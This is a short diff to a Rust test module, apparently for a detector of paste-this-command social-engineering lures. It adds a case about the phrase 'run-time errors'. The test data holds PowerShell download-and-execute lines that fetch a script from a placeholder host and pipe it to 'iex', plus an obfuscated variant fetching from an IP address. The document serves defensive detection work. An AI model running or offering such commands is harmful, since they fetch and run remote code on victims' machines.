@@ -2668,6 +2668,12 @@ mod tests {
             "Das Dokument konnte nicht angezeigt werden. Klicken Sie auf Start, geben Sie \
              Ausführen ein und drücken Sie die Eingabetaste. Fügen Sie dann mit Strg+V ein."
         ));
+        // "search for run-time errors" is no Run box (twelfth session review).
+        assert!(!judged(
+            "powershell -c \"iwr https://support.example.com/diag.ps1 | iex\"",
+            "Error: your PC is slow. How to fix: search for run-time errors in the Event Viewer \
+             first. Then paste the script with Ctrl+V and press Enter."
+        ));
         // Quoted pieces joined by `+` make the name whole.
         assert!(
             shapes_of("powershell -c \"&('i'+'ex')(&('i' + 'wr') 'http://203.0.113.19/z')\"")
